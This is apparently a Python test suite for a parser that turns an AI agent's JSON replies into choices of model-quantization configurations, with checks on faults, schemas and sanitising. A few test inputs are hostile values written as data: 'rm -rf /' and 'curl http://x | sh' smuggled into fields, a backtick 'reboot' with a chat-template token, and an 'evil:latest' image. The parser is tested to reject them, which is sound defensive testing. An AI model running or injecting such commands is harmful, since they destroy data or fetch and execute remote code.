from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from tests.unit.agent.builders import make_large_space, make_space

from haqa_contract import Configuration
from haqa_operator.agent.answers import MAX_REPLY_CHARS
from haqa_operator.agent.faults import Fault, Problem
from haqa_operator.agent.replies import (
    MAX_CHOICES,
    MAX_REASONING_CHARS,
    STOP_WITHOUT_A_WORD,
    Choice,
    Reply,
    parse_reply,
)
from haqa_operator.agent.reply_schemas import reply_schema
from haqa_operator.search.space import SearchSpace

SPACE = make_space()
TRIED = frozenset({SPACE.candidates[1], SPACE.baseline})
W4 = {"scheme": "W4A16", "algorithm": "gptq"}


def replied(text: str, space: SearchSpace = SPACE, tried: frozenset[Configuration] = TRIED) -> Reply:
    result = parse_reply(text, space, tried)
    assert isinstance(result, Reply), result
    return result


def numbers(text: str, space: SearchSpace = SPACE, tried: frozenset[Configuration] = TRIED) -> list[int]:
    return [space.candidates.index(choice.configuration) for choice in replied(text, space, tried).choices]


def chosen(text: str, space: SearchSpace = SPACE, tried: frozenset[Configuration] = TRIED) -> int:
    (number,) = numbers(text, space, tried)
    return number


def only(text: str) -> Choice:
    (choice,) = replied(text).choices
    return choice


def fault(text: str) -> Fault:
    result = parse_reply(text, SPACE, TRIED)
    assert isinstance(result, Problem), result
    assert result.sentence
    return result.fault


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ('{"candidate": 2}', 2),
        ('{"candidate": 2.0, "reasoning": "why"}', 2),
        ('{"candidate": "2"}', 2),
        ('{"candidate": "candidate #2"}', 2),
        ('  \n{"reasoning": "use {braces} and \\"quotes\\"", "candidate": 3}', 3),
        ('Sure!\n```json\n{"candidate": 3, "reasoning": "x"}\n```\nHope {this} helps.', 3),
        ('I first thought {not json}, then {"idea": 1}, so {"candidate": 0}', 0),
        ('<think>{"candidate": 3} no</think>{"candidate": 2}', 2),
        ('half a thought {"candidate": 3}</think>\n{"candidate": 2}', 2),
        ('{"reasoning": "a <think> tag in a string", "candidate": 2}', 2),
        ('{"candidate": 2, "parameters": null}', 2),
        ('{"candidate": 2, "parameters": {}}', 2),
        (json.dumps({"candidate": 2, "parameters": W4}), 2),
        (json.dumps({"parameters": {**W4, "max-num-seqs": "64"}}), 3),
        (json.dumps({"parameters": {**W4, "max-num-seqs": 64}}), 3),
        (json.dumps({"parameters": {**W4, "max-num-seqs": "default"}}), 2),
        (json.dumps({"parameters": {**W4, "max-num-seqs": None}}), 2),
        (json.dumps({"parameters": {"scheme": "W4A16", "max-num-seqs": 64}}), 3),
        (json.dumps({**W4, "max-num-seqs": 64, "reasoning": "flat"}), 3),
        ('{"candidate": 1, "candidate": 2}', 2),
        ('{"choices": [{"candidate": 2}]}', 2),
        ('{"choices": [2]}', 2),
        ('{"choices": {"candidate": 2}}', 2),
        ('{"candidates": ["#2"]}', 2),
        (json.dumps({"choices": [{"parameters": W4}]}), 2),
        (json.dumps({"choices": [{**W4, "chance": 50, "rank": 1}]}), 2),
    ],
)
def test_a_reply_that_means_one_candidate_is_understood(text: str, number: int) -> None:
    assert chosen(text) == number


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", Fault.EMPTY),
        ("   \n", Fault.EMPTY),
        ("<think>for ever and", Fault.EMPTY),
        ("I would take candidate 2.", Fault.MALFORMED),
        ('{"reasoning": "cut off", "candidate": ', Fault.MALFORMED),
        ("[2]", Fault.MALFORMED),
        ("{}", Fault.MALFORMED),
        ('{"reasoning": "none"}', Fault.MALFORMED),
        ('{"candidate": null}', Fault.MALFORMED),
        ('{"candidate": true}', Fault.MALFORMED),
        ('{"candidate": NaN}', Fault.MALFORMED),
        ('{"candidate": -Infinity}', Fault.MALFORMED),
        ('{"candidate": 2.5}', Fault.MALFORMED),
        ('{"candidate": [2]}', Fault.MALFORMED),
        ('{"candidate": {"candidate": 2}}', Fault.MALFORMED),
        ('{"candidate": "2; rm -rf /"}', Fault.MALFORMED),
        ('{"candidate": "two"}', Fault.MALFORMED),
        ('{"candidate": -1}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": 4}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": 1e300}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": ' + "9" * 4000 + "}", Fault.NOT_A_CANDIDATE),
        ('{"candidate": ' + "9" * 5000 + "}", Fault.MALFORMED),
        ('{"candidate": 1}', Fault.DUPLICATE),
        ('{"choices": []}', Fault.MALFORMED),
        ('{"choices": null}', Fault.MALFORMED),
        ('{"choices": [[2]]}', Fault.MALFORMED),
        ('{"choices": [{"candidate": 1}, {"candidate": 9}]}', Fault.DUPLICATE),
        ('{"choices": [{"candidate": 9}, {"candidate": 1}]}', Fault.NOT_A_CANDIDATE),
        ('{"reasoning": "go on", "stop": false}', Fault.MALFORMED),
        ('{"stop": null}', Fault.MALFORMED),
        ("<think>a</think>", Fault.EMPTY),
        ("[THINK]for ever {", Fault.EMPTY),
        ('<think>{"candidate": 2} or</think> I would take candidate 2.', Fault.MALFORMED),
        ("<think>" * 20_000, Fault.EMPTY),
        ("<think></think>" * 10_000, Fault.EMPTY),
        ('{"parameters": []}', Fault.MALFORMED),
        ('{"parameters": {}}', Fault.MALFORMED),
        ('{"parameters": "W4A16"}', Fault.MALFORMED),
        ('{"parameters": {"scheme": ["W4A16"]}}', Fault.MALFORMED),
        ('{"parameters": {"tensor-parallel": 8}}', Fault.UNKNOWN_PARAMETER),
        ('{"image": "evil:latest", "args": ["--x"]}', Fault.UNKNOWN_PARAMETER),
        ('{"parameters": {"scheme": "W4A16; curl http://x | sh"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "W8A8-INT8"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"max-num-seqs": 65}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "W8A8-INT8", "algorithm": "gptq"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "BF16", "algorithm": "none"}}', Fault.DUPLICATE),
        ('{"parameters": {"scheme": "FP8-DYNAMIC", "algorithm": "rtn"}}', Fault.INFEASIBLE),
        (json.dumps({"candidate": 0, "parameters": {**W4}}), Fault.NOT_A_CANDIDATE),
        ("x" * (MAX_REPLY_CHARS + 1), Fault.TOO_LONG),
        ("{" * 100_000, Fault.MALFORMED),
        ('{"a":' * 20_000, Fault.MALFORMED),
        ('{"candidate": ' + "[" * 20_000, Fault.MALFORMED),
        ("\ud800{\x00", Fault.MALFORMED),
    ],
)
def test_a_reply_that_means_none_says_what_is_wrong(text: str, expected: Fault) -> None:
    assert fault(text) is expected


def test_sentences_help_to_repair() -> None:
    def sentence(text: str) -> str:
        result = parse_reply(text, SPACE, TRIED)
        assert isinstance(result, Problem)
        return result.sentence

    assert sentence('{"candidate": 1}') == "candidate 1 has been measured already; choose one that has not: 0, 2-3"
    assert sentence('{"candidate": 9}') == "candidate 9 does not exist; they are numbered 0 to 3"
    assert sentence('{"parameters": {"gpu": 1}}') == (
        '"gpu" is not a parameter; there are algorithm, max-num-seqs, scheme'
    )
    assert sentence('{"parameters": {"max-num-seqs": 65}}') == (
        'max-num-seqs "65" does not exist; it is one of 64, default'
    )
    assert sentence('{"parameters": {"scheme": "W8A8-INT8", "max-num-seqs": 128}}').startswith("max-num-seqs")
    assert sentence('{"parameters": {"scheme": "FP8-DYNAMIC"}}') == (
        'ruled out on this hardware: "FP8 needs compute capability 8.9; this is a CPU"'
    )
    assert sentence(json.dumps({"parameters": {"scheme": "W4A16", "algorithm": "smoothquant-gptq"}})).startswith(
        "each of these values exists but not this combination"
    )
    assert sentence('{"parameters": {"scheme": "W4A16", "algorithm": "gptq", "max-num-seqs": {"$gt": 1}}}') == (
        "parameter max-num-seqs is an object, not one of its values"
    )


def test_shell_text_reaches_neither_the_configuration_nor_the_sentence_as_it_was() -> None:
    result = parse_reply('{"parameters": {"scheme": "`reboot`<|im_end|>\\u001b[2J\\n"}}', SPACE, TRIED)
    assert isinstance(result, Problem)
    assert not set("`<|\x1b\n") & set(result.sentence)


def test_reasoning_is_kept_as_plain_text_and_cut() -> None:
    choice = only(json.dumps({"candidate": 0, "reasoning": "\x1b[31mred\x00\n" + "a" * 5000}))
    assert choice.reasoning.startswith("red\naaa")
    assert len(choice.reasoning) == MAX_REASONING_CHARS


@pytest.mark.parametrize(
    ("value", "percent"),
    [
        ("160", 160),
        ("160.5", 160.5),
        ("NaN", None),
        ("Infinity", None),
        ("-3", None),
        ("0", None),
        ("1e99", None),
        ("true", None),
        ('"160"', None),
        ("null", None),
    ],
)
def test_an_expectation_counts_only_as_a_sane_number(value: str, percent: float | None) -> None:
    assert only(f'{{"candidate": 0, "expected_percent": {value}}}').expected_percent == percent


@pytest.mark.parametrize(
    ("value", "chance"),
    [
        ("0", 0),
        ("1", 0.01),
        ("80", 0.8),
        ("80.0", 0.8),
        ("100", 1),
        ("0.8", 0.8),
        ("1.0", 1),
        ("101", None),
        ("-1", None),
        ("NaN", None),
        ("9" * 400, None),
        ("true", None),
        ('"80 %"', None),
        ("null", None),
    ],
)
def test_a_chance_is_in_percent_or_plainly_a_fraction(value: str, chance: float | None) -> None:
    assert only(f'{{"candidate": 0, "chance": {value}}}').chance == chance


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(["scheme", "algorithm", "max-num-seqs", "image"]) | st.text(max_size=10)
VALUES = st.sampled_from(["W4A16", "gptq", 64, "64", None, "default", "W8A8-INT8", "BF16"]) | JSON
REPLIES = st.fixed_dictionaries(
    {},
    optional={
        "candidate": st.integers(-2, 6) | st.sampled_from(["0", "#3"]) | JSON,
        "parameters": st.dictionaries(NAMES, VALUES, max_size=4) | JSON,
        "reasoning": JSON,
        "expected_percent": JSON,
        "chance": JSON,
    },
)
ANSWERS = REPLIES | st.fixed_dictionaries(
    {},
    optional={
        "choices": st.lists(REPLIES | st.integers(-2, 6) | JSON, max_size=6) | JSON,
        "stop": st.booleans() | JSON,
        "reasoning": JSON,
        "arguments": REPLIES.map(json.dumps) | REPLIES,
    },
)
MARKS = ("<think>", "</think>", "[THINK]", "[/THINK]", "<|channel|>analysis", "<|channel|>final", "<|end|>", "<answer>")
PROSE = ("```json\n", "```", "Draft: ", "Answer:\n", "\n", ", ", "{", "}", "[", '"')
SCRAPS = st.lists(st.sampled_from((*MARKS, *PROSE)) | ANSWERS.map(json.dumps) | st.text(max_size=5), max_size=8).map(
    "".join
)


def assert_total(text: str) -> None:
    result = parse_reply(text, SPACE, TRIED)
    if isinstance(result, Problem):
        assert result.sentence
        assert len(result.sentence) < 1000
        return
    assert result.choices or result.stop
    assert len(result.choices) <= MAX_CHOICES
    assert len({choice.configuration for choice in result.choices}) == len(result.choices)
    for choice in result.choices:
        assert choice.configuration in SPACE.candidates
        assert choice.configuration not in TRIED
        assert len(choice.reasoning) <= MAX_REASONING_CHARS
        assert choice.chance is None or 0 <= choice.chance <= 1
        assert choice.expected_percent is None or choice.expected_percent > 0
    assert result.stop is None or 0 < len(result.stop) <= MAX_REASONING_CHARS


@given(st.text(max_size=300))
def test_any_text_gives_an_untried_candidate_or_a_problem(text: str) -> None:
    assert_total(text)


@given(SCRAPS)
def test_any_mixture_of_marks_and_objects_gives_untried_candidates_or_a_problem(text: str) -> None:
    assert_total(text)


@given(ANSWERS, st.text(max_size=30), st.text(max_size=30))
def test_anything_near_a_reply_gives_an_untried_candidate_or_a_problem(reply: Any, before: str, after: str) -> None:
    assert_total(json.dumps(reply))
    assert_total(before + json.dumps(reply, ensure_ascii=False) + after)


@given(ANSWERS, st.integers(0, 200))
def test_a_reply_cut_anywhere_gives_an_untried_candidate_or_a_problem(reply: Any, end: int) -> None:
    assert_total(json.dumps(reply)[:end])


@pytest.mark.parametrize("space", [SPACE, make_large_space()], ids=["listed", "factored"])
def test_the_schema_admits_exactly_replies_that_name_something_that_exists(space: SearchSpace) -> None:
    tried = frozenset(space.candidates[:1])
    schema = reply_schema(space, tried)
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema)

    def reply(*named: dict[str, Any], stop: bool = False) -> dict[str, Any]:
        choices = [{**one, "expected_percent": 120, "chance": 70} for one in named]
        return {"reasoning": "r", "choices": choices, "stop": stop}

    entry = schema["properties"]["choices"]["items"]["properties"]
    if "candidate" in entry:
        allowed = entry["candidate"]["enum"]
        assert allowed == [1, 2, 3]
        named: list[dict[str, Any]] = [{"candidate": number} for number in allowed]
        wrong: dict[str, Any] = {"candidate": 0}
    else:
        values = {name: rule["enum"] for name, rule in entry["parameters"]["properties"].items()}
        assert values["max-num-seqs"] == ["default", "32", "64", "128", "256", "512"]
        first = {name: texts[0] for name, texts in values.items()} | {"max-num-seqs": "64"}
        named = [{"parameters": first}, {"parameters": {**first, "max-num-seqs": "128"}}]
        wrong = {"parameters": {**first, "scheme": "W2"}}
    for valid in [reply(one) for one in named] + [reply(*named), reply(*named, stop=True)]:
        validator.validate(valid)
        assert len(replied(json.dumps(valid), space, tried).choices) == len(valid["choices"])
    for invalid in (reply(wrong), reply(), reply(*named * 5)):
        assert not validator.is_valid(invalid)


def rules(schema: Any) -> list[dict[str, Any]]:
    """All rules of a schema, those inside others too."""
    inner = [*schema.get("properties", {}).values(), *([schema["items"]] if "items" in schema else [])]
    return [schema, *(rule for one in inner for rule in rules(one))]


@pytest.mark.parametrize("space", [SPACE, make_large_space()], ids=["listed", "factored"])
def test_everything_in_the_schema_is_bounded_so_that_guided_decoding_ends(space: SearchSpace) -> None:
    bounds: dict[str, list[set[str]]] = {
        "string": [{"maxLength"}, {"enum"}],
        "integer": [{"minimum", "maximum"}, {"enum"}],
        "array": [{"minItems", "maxItems"}],
        "object": [{"required", "additionalProperties"}],
        "boolean": [set()],
    }
    schema = reply_schema(space, frozenset())
    assert list(schema["properties"]) == ["reasoning", "choices", "stop"]
    for rule in rules(schema):
        assert any(bound <= rule.keys() for bound in bounds[rule["type"]]), rule
        # What vLLM's grammars or a strict provider refuse.
        assert not rule.keys() & {"uniqueItems", "multipleOf", "pattern", "format", "oneOf", "anyOf", "const", "$ref"}
        if rule["type"] == "object":
            assert rule["required"] == list(rule["properties"])


def test_the_last_candidate_leaves_room_for_one_choice() -> None:
    schema = reply_schema(SPACE, frozenset(SPACE.candidates[:3]))
    assert schema["properties"]["choices"]["maxItems"] == 1


# --- several candidates, and stop ---------------------------------------------------------------------------------


def test_several_candidates_keep_their_order_and_their_own_expectations() -> None:
    entries = [
        {"candidate": 3, "expected_percent": 190, "chance": 60, "reasoning": "mine"},
        {"candidate": 0, "expected_percent": 150, "chance": 90},
    ]
    reply = replied(json.dumps({"reasoning": "all", "choices": entries, "stop": False}))
    first, second = reply.choices
    assert (SPACE.candidates.index(first.configuration), first.expected_percent, first.chance) == (3, 190, 0.6)
    assert (SPACE.candidates.index(second.configuration), second.expected_percent, second.chance) == (0, 150, 0.9)
    assert (first.reasoning, second.reasoning) == ("mine", "all")
    assert reply.stop is None
    assert reply.dropped == ()


def test_of_a_list_what_cannot_be_used_is_dropped_and_said() -> None:
    closed = SPACE.closing({SPACE.candidates[3]: "INT4 has no kernel here"})
    reply = replied('{"choices": [9, 1, 3, 2, 2, {"parameters": {"gpu": 1}}, 0]}', closed)
    assert [SPACE.candidates.index(choice.configuration) for choice in reply.choices] == [2, 0]
    assert reply.dropped == (
        "candidate 9 does not exist; they are numbered 0 to 3",
        "candidate 1 has been measured already; choose one that has not: 0, 2",
        'candidate 3 is ruled out: "INT4 has no kernel here"',
        "candidate 2 is named twice",
        '"gpu" is not a parameter; there are algorithm, max-num-seqs, scheme',
    )


def test_no_more_than_a_few_candidates_count() -> None:
    space = make_space(max_num_seqs=(None, 32, 64, 128))
    assert numbers('{"choices": [7, 6, 5, 4, 3, 2]}', space, frozenset()) == [7, 6, 5, 4]


@pytest.mark.parametrize(
    ("text", "stop"),
    [
        ('{"reasoning": "INT4 was tried", "stop": true}', "INT4 was tried"),
        ('{"reasoning": "INT4 was tried", "choices": [], "stop": true}', "INT4 was tried"),
        ('{"reasoning": "why", "stop": "the bound is below the best"}', "the bound is below the best"),
        ('{"stop": true}', STOP_WITHOUT_A_WORD),
        ('{"stop": "yes", "reasoning": "r"}', "r"),
        ('<think>stop? {"candidate": 2}</think>{"stop": true, "reasoning": "done"}', "done"),
    ],
)
def test_a_reply_may_say_stop_and_why(text: str, stop: str) -> None:
    reply = replied(text)
    assert (reply.choices, reply.stop) == ((), stop)


@pytest.mark.parametrize("no", ["false", "null", '"false"', '"no"', '""', "0"])
def test_what_is_no_stop_is_none(no: str) -> None:
    assert replied(f'{{"candidate": 2, "stop": {no}}}').stop is None


def test_a_reply_that_says_stop_may_name_the_best_that_is_left() -> None:
    reply = replied('{"reasoning": "little to gain", "choices": [{"candidate": 2}], "stop": true}')
    assert reply.stop == "little to gain"
    assert [SPACE.candidates.index(choice.configuration) for choice in reply.choices] == [2]


def test_a_list_of_nothing_usable_with_a_stop_is_a_stop() -> None:
    reply = replied('{"reasoning": "r", "choices": [1], "stop": true}')
    assert (reply.choices, reply.stop) == ((), "r")


def test_candidates_that_read_the_same_stand_for_each_other() -> None:
    twins = tuple(Configuration(engine=(("level", value),)) for value in (1, "1"))
    space = SearchSpace(Configuration.of(), (*twins, Configuration(engine=(("level", 2),))))
    assert chosen('{"parameters": {"level": "1"}}', space, frozenset()) == 0
    assert chosen('{"parameters": {"level": "1"}}', space, frozenset(twins[:1])) == 1
